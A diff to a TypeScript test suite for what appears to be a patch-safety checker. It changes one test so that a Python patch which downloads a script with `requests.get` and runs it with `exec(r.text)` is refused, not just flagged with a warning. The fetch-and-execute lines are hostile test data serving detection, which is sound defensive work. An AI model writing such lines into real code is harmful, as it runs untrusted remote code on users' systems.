@@ -170,8 +170,9 @@ describe('attack pass 12 (B): content moved into place or composed with lines th
     expect(checkPatch(patch)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
   });
 
-  it('warns the approver of a download on a context line and a run on an added one', () => {
-    // Prepare: as when both lines are added, a warning and not a refusal (an honest test fetches and spawns).
+  it('refuses a download on a context line run by its name on an added one, and warns the approver', () => {
+    // Prepare: review 67 (R67-1): the name links the run to the download, a refusal as when both lines are added; the
+    // approval request's warning is still rendered for a proposal that shows it.
     const diff = patchAdding('tests/test_setup.py', ['exec(r.text)'], `r = requests.get("${U}")`);
     const base = newIncident(
       {
@@ -192,7 +193,7 @@ describe('attack pass 12 (B): content moved into place or composed with lines th
     const body = renderComment(waiting as typeof base);
 
     // Assert
-    expect(checkPatch(diff).ok).toBe(true);
+    expect(checkPatch(diff).ok).toBe(false);
     expect(body).toContain('> [!WARNING]\n> This change downloads something and, on another line, runs code');
   });
 
